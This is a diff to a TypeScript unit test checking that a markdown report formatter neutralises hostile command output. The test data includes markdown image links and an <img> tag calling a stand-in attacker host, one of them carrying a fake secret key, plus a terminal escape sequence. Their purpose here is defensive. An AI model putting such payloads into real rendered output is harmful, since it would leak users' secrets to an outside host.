@@ -18,10 +18,15 @@ const report: VerifyReport = {
   commands: [{ id: 'lint', state: 'fail', durationMs: 3, diagnostic: PRINTED, cmd: 'npm run lint', excerpt: PRINTED }],
   finishedAt: '2026-12-06T00:00:00.000Z',
   durationMs: 8,
+  notes: [`uncommitted: ${PRINTED.slice(0, 60)}`],
 };
 
 test('a diagnostic is one code span in its cell, the output one fenced block, escape sequences shown', () => {
   const md = formatVerifyMarkdown(report);
+  // A note (it names the repository's paths) is inert too: no image, no raw escape.
+  const note = md.split('\n').find((l) => l.startsWith('- '))!;
+  expect(note).not.toMatch(/^- uncommitted: FAIL !\[/);
+  expect(note).not.toContain('\u001b');
   const row = md.split('\n').find((l) => l.startsWith('| lint |'))!;
   // Fenced by five backticks (the output holds a run of four), padded since it ends with one.
   expect(row).toBe('| lint | fail | 3 | ````` FAIL ![x](https://attacker.example/?d=sk-live-1) \\| <img src=https://attacker.example/i> <U+001B>[2J ``` ![y](https://attacker.example/z) ```` ````` |');
